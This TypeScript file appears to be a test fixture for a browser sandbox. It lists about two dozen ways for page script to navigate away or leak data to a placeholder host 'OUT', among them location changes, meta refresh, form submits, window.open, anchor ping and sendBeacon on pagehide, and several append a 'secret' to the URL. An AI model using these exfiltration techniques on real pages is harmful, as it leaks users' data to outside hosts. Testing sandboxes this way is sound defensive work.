import type { Attempt } from './attempt.ts'

/** Ways to take the page, another one or the whole tab to an address. */
export const LEAVES: readonly Attempt[] = [
  { name: 'location', alone: true, js: `location = 'http://OUT/?' + secret` },
  { name: 'location-replace', alone: true, js: `location.replace('http://OUT/?' + secret)` },
  { name: 'navigation-api', alone: true, js: `navigation.navigate('http://OUT/?' + secret)` },
  { name: 'top-location', alone: true, js: `top.location = 'http://OUT/?' + secret` },
  { name: 'parent-location', alone: true, js: `parent.location = 'http://OUT/?' + secret` },
  { name: 'meta-refresh', alone: true, head: `<meta http-equiv="refresh" content="0; url=http://OUT/">` },
  {
    name: 'script-meta-refresh',
    alone: true,
    js: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=http://OUT/' }))`,
  },
  {
    name: 'form-get',
    alone: true,
    html: `<form id="f" action="http://OUT/"><input name="s" value="secret"></form>`,
    js: `document.forms[0].submit()`,
  },
  {
    name: 'form-post',
    alone: true,
    html: `<form method="post" action="http://OUT/"><input name="s" value="secret"></form>`,
    js: `document.forms[0].submit()`,
  },
  {
    name: 'form-top',
    alone: true,
    html: `<form target="_top" action="http://OUT/"></form>`,
    js: `document.forms[0].submit()`,
  },
  {
    name: 'form-blank',
    alone: true,
    click: true,
    html: `<form target="_blank" action="http://OUT/"><button id="go">go</button></form>`,
  },
  {
    name: 'window-open',
    alone: true,
    click: true,
    html: `<button id="go" onclick="window.open('http://OUT/?' + document.title)">go</button>`,
  },
  { name: 'window-open-early', alone: true, js: `open('http://OUT/')` },
  {
    name: 'popup-then-location',
    alone: true,
    click: true,
    html: `<button id="go" onclick="window.open('about:blank').location = 'http://OUT/'">go</button>`,
  },
  { name: 'anchor', alone: true, click: true, html: `<a id="go" href="http://OUT/">go</a>` },
  {
    name: 'anchor-blank',
    alone: true,
    click: true,
    html: `<a id="go" target="_blank" href="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-opener',
    alone: true,
    click: true,
    html: `<a id="go" target="_blank" rel="opener" href="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-top',
    alone: true,
    click: true,
    html: `<a id="go" target="_top" href="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-ping',
    alone: true,
    click: true,
    html: `<a id="go" href="#here" ping="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-download',
    alone: true,
    click: true,
    html: `<a id="go" download href="http://OUT/a">go</a>`,
  },
  {
    name: 'svg-anchor',
    alone: true,
    click: true,
    html: `<svg width="99" height="99"><a href="http://OUT/"><rect id="go" width="99" height="99"/></a></svg>`,
  },
  { name: 'javascript-address', alone: true, js: `location = "javascript:'<img src=http://OUT/a.gif>'"` },
  {
    name: 'unload',
    alone: true,
    js: `addEventListener('pagehide', () => navigator.sendBeacon('http://OUT/', secret)); location.replace('about:blank')`,
  },
  {
    name: 'redirect-by-us',
    alone: true,
    js: `location = 'OWN/auth?attack&redirect=' + encodeURIComponent('http://OUT/')`,
    inertBecause: 'nothing of ours redirects elsewhere',
  },
]
